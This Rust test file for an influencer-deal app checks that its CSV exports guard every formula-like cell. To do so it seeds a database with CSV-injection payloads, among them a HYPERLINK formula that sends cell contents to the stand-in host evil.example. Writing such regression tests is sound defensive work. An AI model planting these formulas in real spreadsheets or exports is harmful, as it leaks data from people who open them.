//! Issue 13, case 7: nothing a spreadsheet would run leaves the app in a CSV file, whatever
//! field it is in and however it got into the database.

use chrono::NaiveDate;
use shoutout_core::deals::csv as deal_csv;
use shoutout_core::deals::{self as deal, DealInput, DealKind, DealQuery, DealStatus, ItemInput};
use shoutout_core::roster::{self, CreatorInput, HandleInput, Platform, RosterQuery};
use shoutout_core::Db;

const FORMULA: &str = r#"=HYPERLINK(CONCAT("evil.example/",A2,"/x"),"open")"#;

fn date(text: &str) -> NaiveDate {
    NaiveDate::parse_from_str(text, "%Y-%m-%d").unwrap()
}

/// A cell a spreadsheet would run: it starts with `= + - @`, a tab or a carriage return and is
/// not a plain number.
fn runs(cell: &str) -> bool {
    let number = cell
        .strip_prefix('-')
        .is_some_and(|n| !n.is_empty() && n.parse::<f64>().is_ok() && !n.contains(['e', 'E']));
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

/// Every cell of a CSV export; `guarded` counts the ones written with the `'` guard.
fn cells(bytes: Vec<u8>) -> Vec<String> {
    let text = String::from_utf8(bytes).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// A creator with a deal that gave something, then every text field overwritten in the
/// database with a formula, as an old version, a restored backup or another tool might leave it.
fn poisoned_db() -> Db {
    let mut db = Db::open_in_memory().unwrap();
    let today = date("2026-11-23");
    let zoe = roster::create_creator(
        &mut db,
        &CreatorInput {
            display_name: "Zoë".into(),
            handles: vec![
                HandleInput {
                    platform: Some(Platform::Instagram),
                    handle: "zoe.eats".into(),
                    followers: "12000".into(),
                },
                HandleInput {
                    platform: Some(Platform::Other),
                    handle: "twitch.tv/zoe".into(),
                    followers: "100".into(),
                },
            ],
            niches: vec!["coffee".into()],
            ..CreatorInput::default()
        },
    )
    .unwrap();
    let d = deal::create_deal(
        &mut db,
        &DealInput {
            creator_id: zoe.id,
            campaign: "Winter menu".into(),
            kinds: vec![DealKind::Gifting],
            platform: Some(Platform::Instagram),
            currency: "EUR".into(),
            start_date: "2026-11-01".into(),
            discount_code: "ZOE10".into(),
            items: vec![ItemInput {
                name: "Tasting flight".into(),
                quantity: "2".into(),
                unit_cost: "6.50".into(),
                unit_retail: "18".into(),
            }],
            ..DealInput::default()
        },
        today,
    )
    .unwrap();
    deal::set_status(&mut db, d.id, DealStatus::Agreed, "", today).unwrap();
    deal::set_status(&mut db, d.id, DealStatus::ProductSent, "", today).unwrap();
    db.conn()
        .execute_batch(&format!(
            "UPDATE creator_handles SET handle = '{f}' || platform;
             UPDATE creators SET display_name = '{f}', city = '@SUM(1)', email = '+1+1',
                 phone = '-1+1', notes = '{f}';
             UPDATE creator_niches SET niche = '=1+1';
             UPDATE deals SET campaign = '{f}', discount_code = '=CODE()',
                 landing_url = '=link()';
             UPDATE deal_items SET name = '{f}';",
            f = FORMULA.replace('\'', "''")
        ))
        .unwrap();
    db
}

#[test]
fn a_formula_in_any_field_leaves_in_no_csv_export_unguarded() {
    let db = poisoned_db();
    let today = date("2026-11-23");
    let mut roster_csv = Vec::new();
    assert_eq!(
        roster::export(&db, &RosterQuery::default(), &mut roster_csv).unwrap(),
        1
    );
    let mut deals_csv = Vec::new();
    deal_csv::export_deals(&db, &DealQuery::default(), today, &mut deals_csv).unwrap();
    let mut gifts_csv = Vec::new();
    deal_csv::export_gifts(&db, &DealQuery::default(), today, &mut gifts_csv).unwrap();
    for (export, bytes) in [
        ("roster", roster_csv),
        ("deals", deals_csv),
        ("gifts", gifts_csv),
    ] {
        let cells = cells(bytes);
        let running: Vec<&String> = cells.iter().filter(|c| runs(c)).collect();
        assert!(running.is_empty(), "{export} export runs {running:?}");
        assert!(
            cells.iter().any(|c| c.starts_with(&format!("'{FORMULA}"))),
            "{export} export holds the guarded formula: {cells:?}"
        );
    }
}

#[test]
fn the_other_handle_in_the_roster_export_is_guarded() {
    let db = poisoned_db();
    let mut out = Vec::new();
    roster::export(&db, &RosterQuery::default(), &mut out).unwrap();
    let cells = cells(out);
    let at = |header: &str| {
        let columns = roster::EXPORT_HEADERS.len();
        let i = roster::EXPORT_HEADERS
            .iter()
            .position(|h| *h == header)
            .unwrap();
        cells[columns + i].clone()
    };
    assert_eq!(at("Other"), format!("'{FORMULA}other"));
    assert_eq!(at("Instagram"), format!("'{FORMULA}instagram"));
}
